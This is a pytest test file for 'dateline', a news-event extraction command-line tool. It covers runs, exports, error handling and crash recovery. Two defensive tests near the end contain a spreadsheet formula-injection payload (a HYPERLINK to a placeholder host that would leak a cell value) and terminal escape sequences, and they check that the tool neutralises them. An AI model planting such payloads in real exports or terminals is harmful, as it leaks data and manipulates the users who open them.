"""The command line end to end, on a real SQLite file: runs, reruns, listings, bad input, kill and resume."""

from __future__ import annotations

import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

from dateline.cli import main
from dateline.store import Store

from .conftest import EXAMPLES


def dl(*args: str, capsys=None) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr() if capsys else ("", "")
    return code, out, err


def jsonl(text: str) -> list[dict]:
    return [json.loads(line) for line in text.splitlines() if line.strip()]


@pytest.fixture
def examples_db(tmp_path_factory) -> Path:
    db = tmp_path_factory.mktemp("ex") / "ex.db"
    assert main(["run", str(EXAMPLES), "--db", str(db), "--quiet"]) == 0
    return db


def test_cli_run_examples_then_rerun_adds_nothing(tmp_path, capsys):
    db = str(tmp_path / "d.db")
    code, out, _ = dl("run", str(EXAMPLES), "--db", db, capsys=capsys)
    assert code == 0
    assert out.startswith("read 4, new 4, duplicates 0")
    code, out, _ = dl("run", str(EXAMPLES), "--db", db, "--quiet", capsys=capsys)
    assert code == 0 and out.startswith("read 4, new 0, duplicates 4")
    code, out, _ = dl("articles", "--db", db, "--format", "jsonl", capsys=capsys)
    rows = jsonl(out)
    assert len(rows) == 4
    assert set(rows[0]) >= {"id", "source", "url", "title", "published", "place", "text"}
    html = next(r for r in rows if r["title"] and r["title"].startswith("Norway and Chile sign"))
    assert html["published"] == "2024-03-12" and html["place"] == "Oslo"
    assert "Related" not in html["text"] and "All rights reserved" not in html["text"]


def test_cli_listings_follow_the_output_contract(examples_db, capsys):
    db = str(examples_db)
    _, out, _ = dl("events", "--db", db, "--format", "jsonl", capsys=capsys)
    events = jsonl(out)
    assert events, "the examples hold several events"
    keys = {"id", "type", "mode", "status", "date", "date_precision", "location", "source", "target", "sources",
            "articles", "evidence"}
    for e in events:
        assert keys <= set(e)
        for actor in e["source"] + e["target"]:
            assert set(actor) >= {"name", "role", "country", "sector"}
        for ev in e["evidence"]:
            assert set(ev) >= {"article", "sentence", "start", "end", "text"}
    _, out, _ = dl("stories", "--db", db, "--format", "jsonl", capsys=capsys)
    stories = jsonl(out)
    assert all(set(s) == {"id", "title", "articles", "first_published", "last_published"} for s in stories)
    assert sum(len(s["articles"]) for s in stories) == 4
    _, out, _ = dl("quotes", "--db", db, "--format", "jsonl", capsys=capsys)
    quotes = jsonl(out)
    assert any(q["speaker"] and q["speaker"]["name"] == "Mateo Rojas" for q in quotes)
    for fmt in ("table", "csv"):
        for command in ("articles", "events", "quotes", "stories", "actors", "timeline", "errors"):
            code, out, _ = dl(command, "--db", db, "--format", fmt, capsys=capsys)
            assert code == 0 and out.strip(), (command, fmt)


def test_cli_article_view_marks_actors_and_dates(examples_db, capsys):
    _, out, _ = dl("articles", "--db", str(examples_db), "--format", "jsonl", capsys=capsys)
    preview = next(r for r in jsonl(out) if r["published"] == "2024-03-10")
    code, out, _ = dl("article", preview["id"][:8], "--db", str(examples_db), capsys=capsys)
    assert code == 0
    assert "[Ingrid Solberg|NOR GOV]" in out
    assert "[Tuesday|DATE 2024-03-12]" in out


def test_cli_export_formats(examples_db, tmp_path, capsys):
    db = str(examples_db)
    for fmt in ("jsonl", "csv", "plover"):
        out_file = tmp_path / f"e.{fmt}"
        assert main(["export", "--db", db, "--format", fmt, "--out", str(out_file)]) == 0
        assert out_file.read_text().strip()
    plover = jsonl((tmp_path / "e.plover").read_text())
    assert {"event", "actor_country", "recipient_country", "date", "text"} <= set(plover[0])
    parquet = tmp_path / "e.parquet"
    assert main(["export", "--db", db, "--format", "parquet", "--out", str(parquet)]) == 0
    import pyarrow.parquet as pq

    assert pq.read_table(parquet).num_rows == len(plover)


def test_cli_missing_path_is_a_one_line_error(tmp_path, capsys):
    code, out, err = dl("run", str(tmp_path / "nope"), "--db", str(tmp_path / "d.db"), capsys=capsys)
    assert code == 2
    assert err.strip().count("\n") == 0 and "no such file or folder" in err


def test_cli_unwritable_database_is_a_one_line_error(tmp_path, capsys):
    code, _, err = dl("run", str(EXAMPLES), "--db", str(tmp_path / "missing-dir" / "d.db"), capsys=capsys)
    assert code == 2 and err.startswith("dateline: error: cannot open database")


def test_cli_query_without_database_is_a_one_line_error(tmp_path, capsys):
    code, _, err = dl("events", "--db", str(tmp_path / "none.db"), capsys=capsys)
    assert code == 2 and "no database" in err


def test_cli_bad_files_are_recorded_and_the_batch_goes_on(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "empty.txt").write_bytes(b"")
    (folder / "binary.txt").write_bytes(bytes(range(256)) * 10)
    (folder / "latin1.txt").write_bytes("Le ministre français a rencontré son homologue à Genève.".encode("latin-1"))
    (folder / "good.txt").write_text("Police arrested 12 protesters in Nairobi on Thursday, officials said.")
    db = str(tmp_path / "d.db")
    code, out, _ = dl("run", str(folder), "--db", db, "--quiet", capsys=capsys)
    assert code == 0
    assert out.startswith("read 2, new 2, duplicates 0, skipped 2")
    code, out, _ = dl("errors", "--db", db, "--format", "jsonl", capsys=capsys)
    reasons = {Path(r["origin"]).name: r["reason"] for r in jsonl(out)}
    assert reasons == {"empty.txt": "empty file", "binary.txt": "binary file (contains NUL bytes)"}
    _, out, _ = dl("articles", "--db", db, "--format", "jsonl", capsys=capsys)
    assert any("français a rencontré son homologue à Genève" in r["text"] for r in jsonl(out))


def test_cli_nothing_readable_exits_1_and_keeps_the_store(tmp_path, capsys):
    db = str(tmp_path / "d.db")
    assert main(["run", str(EXAMPLES / "01_preview.txt"), "--db", db, "--quiet"]) == 0
    bad = tmp_path / "bad.txt"
    bad.write_bytes(b"\x00\x01\x02")
    code, _, _ = dl("run", str(bad), "--db", db, "--quiet", capsys=capsys)
    assert code == 1
    _, out, _ = dl("articles", "--db", db, "--format", "jsonl", capsys=capsys)
    assert len(jsonl(out)) == 1


def test_cli_reads_standard_input(tmp_path):
    db = tmp_path / "d.db"
    proc = subprocess.run(
        [sys.executable, "-m", "dateline", "run", "-", "--db", str(db), "--quiet"],
        input=b"date 2024-06-01\nRebels attacked an army base in northern Mali on Friday, killing 9 soldiers.",
        capture_output=True, timeout=300,
    )
    assert proc.returncode == 0, proc.stderr.decode()
    assert proc.stdout.decode().startswith("read 1, new 1")


def _corpus(path: Path, n: int) -> None:
    countries = ["Norway", "Chile", "Kenya", "Peru", "Ghana", "Nepal", "Chad", "Oman", "Laos", "Fiji"]
    with open(path, "w") as fh:
        for i in range(n):
            a, b = countries[i % 10], countries[(i * 3 + 1) % 10]
            text = (f"The foreign minister of {a} met the trade minister of {b} in {a}'s capital on day {i} "
                    f"of the talks, officials said. They agreed to cut tariffs on {i + 2} goods. "
                    f"Protesters gathered outside the ministry, demanding an end to talks number {i}.")
            fh.write(json.dumps({"id": f"doc{i}", "date": "2024-01-15", "text": text}) + "\n")


def test_cli_killed_run_resumes_without_loss_or_duplication(tmp_path):
    corpus = tmp_path / "corpus.jsonl"
    _corpus(corpus, 160)
    db = tmp_path / "d.db"
    cmd = [sys.executable, "-m", "dateline", "run", str(corpus), "--db", str(db), "--quiet"]
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.time() + 240
    stored = 0
    while time.time() < deadline and proc.poll() is None:
        time.sleep(0.2)
        try:
            with sqlite3.connect(db, timeout=1) as con:
                stored = con.execute("SELECT COUNT(*) FROM articles").fetchone()[0]
        except sqlite3.Error:
            continue
        if stored >= 5:
            break
    assert proc.poll() is None, "the run finished before it could be killed; make the corpus larger"
    # a second writer is locked out while readers keep working (both at once, while the run goes on)
    second_proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    reader_proc = subprocess.Popen([sys.executable, "-m", "dateline", "articles", "--db", str(db), "--format", "jsonl"],
                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    second = subprocess.CompletedProcess(cmd, 0, *second_proc.communicate(timeout=120))
    second.returncode = second_proc.returncode
    reader = subprocess.CompletedProcess([], 0, *reader_proc.communicate(timeout=120))
    reader.returncode = reader_proc.returncode
    assert proc.poll() is None, "the run finished before it could be killed; make the corpus larger"
    import psutil

    workers = psutil.Process(proc.pid).children(recursive=True)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    _, alive = psutil.wait_procs(workers, timeout=15)
    assert not alive, "a worker outlived its killed writer"
    assert second.returncode == 2 and "is being written by another dateline run" in second.stderr.decode()
    assert second.stderr.decode().count("\n") == 1
    assert reader.returncode == 0 and len(reader.stdout.splitlines()) >= 5
    after_crash = subprocess.run([sys.executable, "-m", "dateline", "timeline", "--db", str(db)],
                                 capture_output=True, text=True, timeout=120)
    assert "did not finish" in after_crash.stderr and "rerun the same `dateline run` command" in after_crash.stderr
    with sqlite3.connect(db) as con:
        assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        n_articles = con.execute("SELECT COUNT(*) FROM articles").fetchone()[0]
        n_analyses = con.execute("SELECT COUNT(*) FROM analyses").fetchone()[0]
    assert 5 <= n_articles < 160 and n_analyses == n_articles
    done = subprocess.run(cmd, capture_output=True, timeout=600)
    assert done.returncode == 0, done.stderr.decode()
    assert done.stdout.decode().startswith(f"read 160, new {160 - n_articles}, duplicates {n_articles}")
    with sqlite3.connect(db) as con:
        assert con.execute("SELECT COUNT(*), COUNT(DISTINCT id) FROM articles").fetchone() == (160, 160)
        assert con.execute("SELECT COUNT(*) FROM articles WHERE merged = 0").fetchone()[0] == 0
        assert con.execute("SELECT COUNT(*) FROM runs WHERE finished IS NULL").fetchone()[0] == 0
    finished = subprocess.run([sys.executable, "-m", "dateline", "timeline", "--db", str(db)],
                              capture_output=True, text=True, timeout=120)
    assert finished.stderr == ""


def test_cli_pipe_and_empty_folder_beside_a_valid_file(tmp_path):
    """Neither blocks nor aborts the run: the valid file is stored and both reasons are kept."""
    if not hasattr(os, "mkfifo"):
        pytest.skip("no named pipes on this system")
    fifo = tmp_path / "feed.txt"
    os.mkfifo(fifo)
    empty = tmp_path / "empty"
    empty.mkdir()
    good = tmp_path / "good.txt"
    good.write_text("date 2024-06-01\nPolice arrested 12 protesters in Nairobi on Thursday, officials said.")
    db = tmp_path / "d.db"
    run = subprocess.run([sys.executable, "-m", "dateline", "run", str(fifo), str(empty), str(good), "--db", str(db),
                          "--quiet"], capture_output=True, text=True, timeout=300)
    assert run.returncode == 0, run.stderr
    assert run.stdout.startswith("read 1, new 1, duplicates 0, skipped 2")
    code = main(["errors", "--db", str(db), "--format", "jsonl"])
    with Store(db, readonly=True) as store:
        reasons = {r["origin"]: r["reason"] for r in store.errors()}
        assert len(store.articles()) == 1
    assert code == 0
    assert "named pipe" in reasons[str(fifo)] and reasons[str(empty)].startswith("folder holds no .txt")


@pytest.mark.parametrize("args, message", [
    (["run", "EXAMPLES", "--scheduler", "tcp://127.0.0.1:8786"], "--scheduler needs --engine dask"),
    (["run", "MISSING"], "no such file or folder"),
    (["run", "EXAMPLES", "MISSING"], "no such file or folder"),
])
def test_cli_a_run_refused_at_the_start_creates_no_database(tmp_path, capsys, args, message):
    db = tmp_path / "d.db"
    args = [{"EXAMPLES": str(EXAMPLES), "MISSING": str(tmp_path / "nope.txt")}.get(a, a) for a in args]
    code, _, err = dl(*args, "--db", str(db), capsys=capsys)
    assert code == 2 and message in err and err.count("\n") == 1
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("model", ["en_no_such_pipeline", "./no_such_folder", "models.no_such"])
def test_cli_a_run_with_a_missing_named_model_creates_no_database(tmp_path, capsys, monkeypatch, model):
    monkeypatch.setenv("DATELINE_MODEL", model)
    code, _, err = dl("run", str(EXAMPLES), "--db", str(tmp_path / "d.db"), capsys=capsys)
    assert code == 2 and f"{model!r} is not installed" in err and err.count("\n") == 1
    assert list(tmp_path.iterdir()) == []


def test_cli_events_take_the_timeline_filters_and_a_story(examples_db, capsys):
    db = str(examples_db)
    _, out, _ = dl("events", "--db", db, "--json", capsys=capsys)
    events = jsonl(out)
    multi = [e for e in events if e["sources"] >= 2]
    assert multi and len(multi) < len(events), "the examples hold corroborated and single-source events"
    _, out, _ = dl("events", "--db", db, "--json", "--min-sources", "2", capsys=capsys)
    assert [e["id"] for e in jsonl(out)] == [e["id"] for e in multi]
    _, by_code, _ = dl("events", "--db", db, "--json", "--country", "NOR", capsys=capsys)
    _, by_name, _ = dl("events", "--db", db, "--json", "--country", "Norway", capsys=capsys)
    assert jsonl(by_code) and by_code == by_name
    _, out, _ = dl("events", "--db", db, "--json", "--status", "planned", capsys=capsys)
    assert {e["id"] for e in jsonl(out)} == {e["id"] for e in events if e["status"] == "planned"}
    story = multi[0]["story"]
    # A story is named by its id, its prefix, or one of its articles; mentions follow their articles.
    for given in (story, story[:7], multi[0]["articles"][0]):
        _, out, _ = dl("events", "--db", db, "--json", "--story", given, capsys=capsys)
        told = jsonl(out)
        assert multi[0]["id"] in {e["id"] for e in told} and all(e["story"] == story for e in told)
    _, out, _ = dl("stories", "--db", db, "--json", capsys=capsys)
    articles = {a for s in jsonl(out) if s["id"] == story for a in s["articles"]}
    _, out, _ = dl("events", "--db", db, "--json", "--mentions", "--story", story, capsys=capsys)
    mentions = jsonl(out)
    assert mentions and {m["article"] for m in mentions} <= articles
    _, out, _ = dl("timeline", "--db", db, "--json", "--story", story, "--type", multi[0]["type"], capsys=capsys)
    assert multi[0]["id"] in {e["id"] for e in jsonl(out)}
    code, _, err = dl("events", "--db", db, "--story", "s0000000000000000", capsys=capsys)
    assert code == 2 and "story" in err


@pytest.mark.parametrize("query", ["!!", "  ", "?*", "“”"])
def test_cli_query_without_a_word_is_an_error(examples_db, capsys, query):
    for command in ("timeline", "export"):
        for option in ("--query", "--actor"):
            code, out, err = dl(command, "--db", str(examples_db), option, query, capsys=capsys)
            assert code == 2 and f"{option} {query!r} has no word to look for" in err and out == ""


def test_cli_stopped_run_is_recorded_and_timeline_says_how_to_finish(tmp_path, capsys):
    from dateline.pipeline import run

    def interrupted(fn, chunks):
        for chunk in chunks:
            yield fn(chunk)
            raise KeyboardInterrupt

    db = tmp_path / "d.db"
    with Store(db) as store, pytest.raises(KeyboardInterrupt):
        run([str(EXAMPLES)], store, engine=interrupted)
    with Store(db, readonly=True) as store:
        [row] = store.db.execute("SELECT finished, stats FROM runs").fetchall()
        assert row["finished"] and json.loads(row["stats"])["stopped"] == "interrupted"
        assert store.pending()["unmerged"] == 4
    code, _, err = dl("timeline", "--db", str(db), capsys=capsys)
    assert code == 0 and "4 articles stored but not merged" in err and "rerun" in err
    assert main(["run", str(EXAMPLES), "--db", str(db), "--quiet"]) == 0
    code, _, err = dl("timeline", "--db", str(db), capsys=capsys)
    assert err == ""


def test_cli_article_and_story_take_every_format(examples_db, capsys):
    import csv
    import io

    db = str(examples_db)
    _, out, _ = dl("stories", "--db", db, "--format", "jsonl", capsys=capsys)
    story = max(jsonl(out), key=lambda s: len(s["articles"]))
    article = story["articles"][0]
    _, out, _ = dl("article", article[:6], "--db", db, "--format", "jsonl", capsys=capsys)
    [document] = jsonl(out)
    assert document["article"]["id"] == article and document["format"] == 2
    assert all(isinstance(a, int) for e in document["events"] for a in e["source"] + e["target"])
    _, alias, _ = dl("article", article[:6], "--db", db, "--json", capsys=capsys)
    assert alias == out
    _, out, _ = dl("article", article, "--db", db, "--format", "csv", capsys=capsys)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert {r["kind"] for r in rows} >= {"actor", "time", "event"}
    text = document["article"]["text"]
    assert all(text[int(r["start"]):int(r["end"])] == r["text"] for r in rows if r["kind"] != "quote")
    by_story = [dl("story", key, "--db", db, "--format", "jsonl", capsys=capsys)[1] for key in
                (story["id"], story["id"][:5], article, article[:6], story["articles"][-1])]
    assert all(jsonl(o)[0]["id"] == story["id"] for o in by_story)
    _, out, _ = dl("story", article, "--db", db, "--format", "csv", capsys=capsys)
    assert [r["id"] for r in csv.DictReader(io.StringIO(out))] == story["articles"]
    code, out, _ = dl("story", article, "--db", db, capsys=capsys)
    assert code == 0 and out.startswith(f"story {story['id']}:")
    code, _, err = dl("story", "s0000", "--db", db, capsys=capsys)
    assert code == 2 and "no story with id 's0000'" in err


def test_cli_stats_counts_what_the_store_holds(examples_db, capsys):
    _, out, _ = dl("stats", "--db", str(examples_db), "--format", "jsonl", capsys=capsys)
    stats = json.loads(out)
    _, events, _ = dl("events", "--db", str(examples_db), "--format", "jsonl", capsys=capsys)
    _, mentions, _ = dl("events", "--mentions", "--db", str(examples_db), "--format", "jsonl", capsys=capsys)
    _, stories, _ = dl("stories", "--db", str(examples_db), "--format", "jsonl", capsys=capsys)
    assert stats["articles"] == 4
    assert stats["merged events"] == len(jsonl(events)) and stats["event mentions"] == len(jsonl(mentions))
    assert stats["stories"] == len(jsonl(stories))
    assert stats["stories with more than one article"] == sum(len(s["articles"]) > 1 for s in jsonl(stories))
    assert stats["events confirmed by two or more independent sources"] == sum(
        e["sources"] >= 2 for e in jsonl(events))


def test_cli_eval_unknown_file_is_a_one_line_error(tmp_path, capsys):
    code, _, err = dl("eval", "time", str(tmp_path / "none.jsonl"), capsys=capsys)
    assert code == 2 and "no such file" in err


def test_cli_dates_in_other_formats_and_invalid_dates(tmp_path, capsys):
    (tmp_path / "a.txt").write_text("date May 4, 2025\ntitle Ministers meet\nThe ministers met in Oslo on Friday.")
    rows = [{"id": "1", "date": "2024-13-45", "text": "Police arrested 12 protesters in Lima, officials said."},
            {"id": "2", "date": "Tue, 07 Jan 2020 10:00:00 +0000", "text": "Rebels attacked a base in Mali."}]
    (tmp_path / "b.jsonl").write_text("\n".join(json.dumps(r) for r in rows))
    db = str(tmp_path / "d.db")
    code, out, _ = dl("run", str(tmp_path), "--db", db, "--quiet", capsys=capsys)
    assert code == 0 and "its date '2024-13-45' is not a calendar date" in out
    _, out, _ = dl("articles", "--db", db, "--format", "jsonl", capsys=capsys)
    published = {r["title"] or r["text"][:6]: r["published"] for r in jsonl(out)}
    assert published == {"Ministers meet": "2025-05-04", "Police": None, "Rebels": "2020-01-07"}
    _, out, _ = dl("errors", "--db", db, "--format", "jsonl", capsys=capsys)
    assert [r["origin"].rsplit("/", 1)[-1] for r in jsonl(out)] == ["b.jsonl#1"]
    assert main(["run", str(EXAMPLES / "01_preview.txt"), "--db", db, "--quiet"]) == 0  # the store still works


@pytest.mark.parametrize(
    "args",
    [["timeline", "--since", "notadate"], ["timeline", "--until", "2025-13"], ["timeline", "--type", "FOO"],
     ["events", "--country", "Atlantis"], ["events", "--min-sources", "0"], ["export", "--status", "rumoured"],
     ["run", "x", "--workers", "0"], ["run", "x", "--max-bytes", "-5"]],
)
def test_cli_bad_arguments_are_usage_errors(args, capsys):
    with pytest.raises(SystemExit) as exc:
        main(args)
    assert exc.value.code == 2
    assert "error:" in capsys.readouterr().err


def test_cli_errors_show_when_they_happened(tmp_path, capsys):
    (tmp_path / "empty.txt").write_bytes(b"")
    (tmp_path / "ok.txt").write_text("Police arrested 12 protesters in Lima on Friday.")
    db = str(tmp_path / "d.db")
    main(["run", str(tmp_path), "--db", db, "--quiet"])
    capsys.readouterr()
    _, out, _ = dl("errors", "--db", db, "--format", "jsonl", capsys=capsys)
    [row] = jsonl(out)
    assert row["reason"] == "empty file" and row["at"].endswith("+00:00") and row["at"][:2] == "20"


def test_cli_exports_keep_compound_actors_and_history(tmp_path, capsys):
    from .conftest import SEEDS

    if not SEEDS.exists():
        pytest.skip("seed articles not available")
    db = str(tmp_path / "d.db")
    main(["run", str(SEEDS), "--db", db, "--quiet"])
    out = tmp_path / "e.plover"
    assert main(["export", "--db", db, "--format", "plover", "--out", str(out), "--type", "COOPERATE"]) == 0
    [record] = jsonl(out.read_text())
    assert record["actor_country"] == "IND;JPN" and len(record["source"]) == 2
    csv_out = tmp_path / "e.csv"
    assert main(["export", "--db", db, "--format", "csv", "--out", str(csv_out), "--type", "CONSULT"]) == 0
    import csv

    rows = list(csv.DictReader(csv_out.open()))
    meeting = next(r for r in rows if r["date"] == "2025-05-05")
    assert [h["status"] for h in json.loads(meeting["status_history"])] == ["planned", "occurred"]
    # the day it was first reported (the preview) beside the day it happened, and the outlets
    assert (meeting["reported"], meeting["outlets"]) == ("2025-05-04", "2")
    undated = [r for r in rows if not r["date"] and r["status"] == "occurred"]  # told as done, day not given
    assert undated and all(r["before"] and r["before"] <= r["reported"] for r in undated)
    assert len(json.loads(meeting["evidence"])) >= 2
    assert {a["sector"] for a in json.loads(meeting["source"]) + json.loads(meeting["target"])} >= {"GOV"}
    assert meeting["story"].startswith("s") and isinstance(json.loads(meeting["figures"]), dict)
    empty = tmp_path / "none.parquet"
    assert main(["export", "--db", db, "--format", "parquet", "--out", str(empty), "--since", "2030"]) == 0
    import pyarrow.parquet as pq

    table = pq.read_table(empty)
    assert table.num_rows == 0 and "status_history" in table.column_names


def test_cli_progress_line_redraws_and_clears():
    import io

    from dateline.cli import _Bar

    stream = io.StringIO()
    bar = _Bar(stream)
    bar.shown -= 1  # as if the last redraw were a second ago
    bar.update(5, 20)
    bar.update(6, 20)  # too soon after the last: not drawn
    bar.close()
    text = stream.getvalue()
    assert text.count("\r20 articles read, 5 analysed") == 1 and "6 analysed" not in text
    assert text.endswith("\r")


def test_run_shows_the_records_that_say_more_among_equally_corroborated():
    """`dateline run` prints the 40 best-corroborated events; among records with as many
    independent sources, one with both sides and a day goes before an actorless, undated one,
    whatever their dates, and more sources always win."""
    from dateline.cli import _corroboration_rank

    side = [{"name": "Rebels"}]
    bare = {"id": "a", "sources": 2, "outlets": 2, "date": "2020-01-01", "source": [], "target": [],
            "date_precision": None, "status": "occurred"}
    full = {"id": "b", "sources": 2, "outlets": 2, "date": "2020-06-01", "source": side, "target": side,
            "date_precision": "day", "status": "occurred"}
    more = {**bare, "id": "c", "sources": 3}
    assert [e["id"] for e in sorted([bare, full, more], key=_corroboration_rank)] == ["c", "b", "a"]


@pytest.mark.parametrize(
    ("task", "line", "message"),
    [
        ("time", '{"id": "a", "text": "On Monday."', "1: not JSON"),
        ("time", '{"id": "a", "dct": "2020-01-01"}', "1: the item has no 'text'"),
        ("events", '["a list"]', "1: an item is a JSON object"),
        ("stories", '{"id": "a", "text": "Quake."}', "1: the item has no 'cluster'"),
        ("actors", "not json at all", "1: not JSON"),
    ],
)
def test_cli_eval_bad_file_names_the_line(tmp_path, capsys, task, line, message):
    """A file not in the task's format is a one-line error naming its line, never a traceback."""
    bad = tmp_path / "bad.jsonl"
    bad.write_text(line + "\n", encoding="utf-8")
    assert main(["eval", task, str(bad)]) == 2
    assert f"bad.jsonl:{message}" in capsys.readouterr().err


def test_cli_csv_cells_that_look_like_formulas_stay_text(tmp_path, capsys):
    """Article fields are untrusted: a CSV a spreadsheet opens must not run "=HYPERLINK(...)"."""
    import csv

    article = tmp_path / "a.txt"
    article.write_text(
        'date 2021-03-04\ntitle =HYPERLINK("http://example.invalid/?x="&A1,"open")\nsource +Wire\n\n'
        "=1+2 Police arrested forty protesters in Quito on Tuesday.\n",
        encoding="utf-8",
    )
    db = str(tmp_path / "f.db")
    assert main(["run", str(article), "--db", db, "--quiet"]) == 0
    capsys.readouterr()
    _, out, _ = dl("articles", "--db", db, "--format", "csv", capsys=capsys)
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["title"].startswith("'=HYPERLINK(") and row["source"] == "'+Wire"
    exported = tmp_path / "e.csv"
    assert main(["export", "--db", db, "--format", "csv", "--out", str(exported)]) == 0
    rows = list(csv.DictReader(exported.open(encoding="utf-8")))
    assert rows and all(not v.startswith(("=", "+", "@")) for r in rows for v in r.values())
    assert any(r["evidence_text"].startswith("'=1+2 Police") for r in rows)


def test_cli_metadata_with_terminal_escapes_prints_clean(tmp_path, capsys):
    """ESC and BEL in a source, a URL or a file name would retitle or clear the analyst's terminal."""
    record = {"id": "x1", "text": "Police detained six men in Lima on Monday.", "date": "2022-05-03",
              "source": "Wire\u001b]0;TITLE\u0007\u001b[2J", "url": "http://example.invalid/\u001b[31m"}
    data = tmp_path / "esc\u001b[1m.jsonl"
    data.write_text(json.dumps(record) + "\n" + '{"id": "x2"}\n', encoding="utf-8")
    db = str(tmp_path / "e.db")
    main(["run", str(data), "--db", db, "--quiet"])
    summary = capsys.readouterr().out
    assert "skipped" in summary and "\u001b" not in summary
    [article] = jsonl(dl("articles", "--db", db, "--format", "jsonl", capsys=capsys)[1])
    assert article["source"] == "Wire]0;TITLE[2J" and "\u001b" not in article["url"]
    for args in (("articles", "--db", db), ("article", article["id"], "--db", db), ("errors", "--db", db)):
        out = dl(*args, "--format", "table", capsys=capsys)[1] if args[0] != "article" else dl(*args, capsys=capsys)[1]
        assert "\u001b" not in out and "\u0007" not in out, args


def test_cli_ctrl_c_on_a_pool_run_is_one_line(tmp_path):
    """A terminal sends Ctrl-C to the whole process group: the writer and every worker."""
    corpus = tmp_path / "corpus.jsonl"
    _corpus(corpus, 120)
    db = tmp_path / "d.db"
    cmd = [sys.executable, "-m", "dateline", "run", str(corpus), "--db", str(db), "--quiet", "--workers", "2"]
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, start_new_session=True)
    import psutil

    deadline = time.time() + 240
    while time.time() < deadline and proc.poll() is None:
        time.sleep(0.2)
        if len(psutil.Process(proc.pid).children(recursive=True)) >= 2 and db.exists():
            try:
                with sqlite3.connect(db, timeout=1) as con:
                    if con.execute("SELECT COUNT(*) FROM articles").fetchone()[0] >= 1:
                        break
            except sqlite3.Error:
                continue
    assert proc.poll() is None, "the run finished before it could be interrupted; make the corpus larger"
    os.killpg(proc.pid, signal.SIGINT)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130, err.decode()
    assert "Traceback" not in err.decode() and err.decode().count("\n") == 1, err.decode()


def test_cli_mentions_as_csv_keep_their_article_and_sentence(examples_db, capsys):
    import csv

    _, out, _ = dl("events", "--db", str(examples_db), "--mentions", "--format", "csv", capsys=capsys)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows and all(r["article"] and r["trigger"] and r["text"] and r["end"] for r in rows)
    assert all(r["trigger"].lower() in r["text"].lower() for r in rows)
